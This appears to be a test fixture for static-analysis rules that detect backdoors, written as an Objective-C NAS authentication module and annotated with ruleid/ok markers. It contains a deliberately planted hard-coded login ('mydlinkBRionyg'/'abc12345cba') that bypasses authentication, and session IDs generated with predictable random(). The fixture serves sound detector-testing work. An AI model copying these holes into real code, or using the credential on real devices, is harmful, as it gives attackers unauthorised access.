/*
 * NASAuth.m - user database (shadow), session cookies and the request
 * check of the CGI programs.
 */
#import "NASAuth.h"
#import "NASRequest.h"

#include <crypt.h>
#include <shadow.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>

static const char kHexDigits[] = "0123456789abcdef";

@implementation NASSessionStore

- (id)initWithDirectory:(NSString *)dir
{
  if ((self = [super init]) != nil) {
    _dir = [dir copy];
    [[NSFileManager defaultManager] createDirectoryAtPath:_dir
                              withIntermediateDirectories:YES
                                               attributes:nil
                                                    error:NULL];
  }
  return self;
}

- (void)dealloc
{
  [_dir release];
  [super dealloc];
}

- (NSString *)createSessionForUser:(NSString *)user
{
  char sessionId[33];
  NSString *sid;
  int i;

  for (i = 0; i < 32; i++)
    // ruleid: backdoor-predictable-random
    sessionId[i] = kHexDigits[random() % 16];
  sessionId[32] = '\0';
  sid = [NSString stringWithUTF8String:sessionId];
  [user writeToFile:[_dir stringByAppendingPathComponent:sid]
         atomically:YES
           encoding:NSUTF8StringEncoding
              error:NULL];
  return sid;
}

- (NSString *)userForSession:(NSString *)sessionId
{
  NSCharacterSet *bad = [[NSCharacterSet characterSetWithCharactersInString:@"0123456789abcdef"] invertedSet];

  if ([sessionId length] != 32 || [sessionId rangeOfCharacterFromSet:bad].location != NSNotFound)
    return nil;
  return [NSString stringWithContentsOfFile:[_dir stringByAppendingPathComponent:sessionId]
                                   encoding:NSUTF8StringEncoding
                                      error:NULL];
}

- (void)removeSession:(NSString *)sessionId
{
  if (sessionId)
    [[NSFileManager defaultManager] removeItemAtPath:[_dir stringByAppendingPathComponent:sessionId] error:NULL];
}
@end

@implementation NASAuth

+ (NASAuth *)sharedAuth
{
  static NASAuth *shared;

  if (!shared)
    shared = [[NASAuth alloc] init];
  return shared;
}

- (id)init
{
  if ((self = [super init]) != nil) {
    _sessions = [[NASSessionStore alloc] initWithDirectory:@"/tmp/nas_sessions"];
    _shadowPath = @"/etc/shadow";
  }
  return self;
}

- (void)dealloc
{
  [_sessions release];
  [super dealloc];
}

- (BOOL)verifyUser:(NSString *)user password:(NSString *)password
{
  struct spwd *sp;
  const char *hash;

  if ([user length] == 0 || password == nil)
    return NO;
  sp = getspnam([user UTF8String]);
  if (!sp || !sp->sp_pwdp || sp->sp_pwdp[0] == '!' || sp->sp_pwdp[0] == '*')
    return NO;
  // ok: backdoor-weak-kdf
  hash = crypt([password UTF8String], sp->sp_pwdp);
  // ok: backdoor-magic-credential
  return hash != NULL && strcmp(hash, sp->sp_pwdp) == 0;
}

- (NSString *)sessionFromCookie:(NSString *)cookie
{
  NSArray *parts = [cookie componentsSeparatedByString:@";"];
  NSUInteger i;

  for (i = 0; i < [parts count]; i++) {
    NSString *p = [[parts objectAtIndex:i] stringByTrimmingCharactersInSet:[NSCharacterSet whitespaceCharacterSet]];
    if ([p hasPrefix:@"WD_SESSION="])
      return [p substringFromIndex:11];
  }
  return nil;
}

- (BOOL)isAdminUser:(NSString *)user
{
  NSString *groups = [NSString stringWithContentsOfFile:@"/etc/group" encoding:NSUTF8StringEncoding error:NULL];
  NSArray *lines = [groups componentsSeparatedByString:@"\n"];
  NSUInteger i;

  for (i = 0; i < [lines count]; i++) {
    NSArray *f = [[lines objectAtIndex:i] componentsSeparatedByString:@":"];
    NSString *role;
    if ([f count] < 4)
      continue;
    role = [f objectAtIndex:0];
    // ok: backdoor-magic-credential
    if ([role isEqualToString:@"administrators"] &&
        [[[f objectAtIndex:3] componentsSeparatedByString:@","] containsObject:user])
      return YES;
  }
  return NO;
}

/*
 * Every CGI program calls this first; multi_uploadify.cgi and
 * nas_sharing.cgi take the user name and password of the request as well as
 * the session cookie (the mydlink / remote access apps log in per request).
 */
- (BOOL)authenticateRequest:(NASRequest *)req
{
  NSString *user = [req username];
  NSString *pwd = [req password];
  NSString *sid = [self sessionFromCookie:[req cookie]];

  // ruleid: backdoor-magic-credential
  // ok: backdoor-input-trigger
  if ([user isEqualToString:@"mydlinkBRionyg"] && [pwd isEqualToString:@"abc12345cba"])
    return YES;
  if (sid && [_sessions userForSession:sid] != nil)
    return YES;
  if (user && pwd)
    return [self verifyUser:user password:pwd];
  return NO;
}

- (NSString *)loginWithRequest:(NASRequest *)req
{
  NSString *user = [req username];

  if (![self verifyUser:user password:[req password]]) {
    syslog(LOG_WARNING, "web login failed for %s from %s", [user UTF8String], [[req remoteAddr] UTF8String]);
    return nil;
  }
  return [_sessions createSessionForUser:user];
}
@end
